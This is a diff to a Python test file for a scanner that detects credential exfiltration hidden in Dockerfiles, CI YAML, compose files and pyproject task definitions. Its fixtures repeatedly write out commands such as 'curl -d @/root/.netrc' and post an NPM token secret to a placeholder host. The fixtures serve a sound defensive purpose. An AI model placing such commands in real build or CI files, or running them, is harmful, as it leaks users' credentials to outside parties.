@@ -96,11 +96,28 @@ def test_the_blocks_of_a_page_are_one_sequence() -> None:
         {"Dockerfile": f"FROM x\nRUN apt-get update && \\\n    curl -d @/root/.netrc {IN}\n"},
         {"w_yml": 'jobs:\n  a:\n    steps:\n      - run: |\n          curl -d "${{ secrets.NPM_TOKEN }}" ' + IN + "\n"},
         {"pyproject_toml": f'[tool.poe.tasks]\nx = "curl -d @/root/.netrc {IN}"\n'},
+        {"Dockerfile": f'FROM x\nCMD ["bash", "-c", "curl -d @/root/.netrc {IN}"]\n'},
+        {"Dockerfile": f"FROM x\nRUN --mount=type=ssh curl -d @/root/.netrc {IN}\n"},
+        {"ci_yml": f"job:\n  script:\n    - K=$(cat ~/.netrc)\n    - curl -d $K {IN}\n"},
+        {"ci_yml": f"jobs: {{a: {{steps: [{{run: 'curl -d @/root/.netrc {IN}'}}]}}}}\n"},
+        {"compose_yml": f'services:\n  a:\n    command: ["sh", "-c", "curl -d @/root/.netrc {IN}"]\n'},
+        {"ci_yml": f"{{{{ template\nrun: curl -d @/root/.netrc {IN}\n"},  # no YAML: by patterns
+        {"pyproject_toml": f'[tool.poe.tasks]\nx = {{shell = "curl -d @/root/.netrc {IN}"}}\n'},
+        {"pyproject_toml": f'[tool.pdm.scripts]\nx = {{cmd = ["curl", "-d", "@/root/.netrc", "{IN}"]}}\n'},
+        {"pyproject_toml": f'[tool.poe.tasks]\nx = "curl -d @/root/.netrc {IN}"\ny = {{\n'},  # no TOML
         {"tasks_json": '{"tasks": [{"command": "curl", "args": ["-d", "@/root/.netrc", "' + IN + '"]}]}'},
     ],
 )
 def test_files_that_list_commands_are_followed(files: dict[str, str]) -> None:
     assert flows(**files)
+
+
+def test_commands_of_a_project_file_keep_their_lines() -> None:
+    ci = f"a: 1\n---\njob:\n  script:\n    - >-\n      true;\n    - |\n      true\n      curl -d @/root/.netrc {IN}\n"
+    assert [found.rpartition("(")[2].split(")")[0] for found in flows(ci_yml=ci)] == ["ci.yml:9"]
+    assert not flows(ci_yml=ci.replace("script", "notes"))
+    toml = f'[tool.pdm]\n[tool.pdm.scripts]\na = "true"\nb = {{shell = "curl -d @/root/.netrc {IN}"}}\n'
+    assert [found.rpartition("(")[2].split(")")[0] for found in flows(pyproject_toml=toml)] == ["pyproject.toml:4"]
 
 
 def test_a_parsed_script_keeps_the_lines_of_its_commands() -> None:
